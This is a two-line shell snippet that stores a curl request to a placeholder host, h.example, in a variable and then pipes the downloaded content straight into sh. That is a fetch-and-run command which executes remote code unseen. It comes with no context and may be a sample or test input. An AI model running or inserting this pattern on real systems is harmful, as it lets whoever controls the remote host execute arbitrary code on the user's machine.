x="curl -s http://h.example/a"
$x | sh
